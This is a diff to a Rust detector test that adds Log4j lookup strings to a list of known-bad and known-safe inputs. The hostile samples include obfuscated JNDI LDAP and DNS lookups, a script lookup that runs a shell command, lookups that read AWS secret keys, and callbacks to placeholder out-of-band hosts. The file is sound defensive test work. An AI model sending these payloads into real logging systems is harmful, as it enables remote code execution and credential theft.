@@ -258,6 +258,8 @@ fn jndi_sees_through_nested_lookups() {
             "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}",
             "${ jndi:dns://x}",
             "${env:AWS_SECRET_ACCESS_KEY}",
+            "${sys:user.home}",
+            "${env:NOPE:-${env:AWS_SECRET_ACCESS_KEY}}",
             "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
             "${dns:address|t4s2.oast.example}",
             "${url:UTF-8:http://t4s3.oast.example/}",
@@ -271,6 +273,8 @@ fn jndi_sees_through_nested_lookups() {
             "${url:http://localhost:8080}",
             "${file:app.yml}",
             "${dns}",
+            "${env:DATABASE_HOST:localhost}:${env:DATABASE_PORT:5432}",
+            "jdbc:postgresql://${sys:db.host:db}/app",
         ],
     );
 }
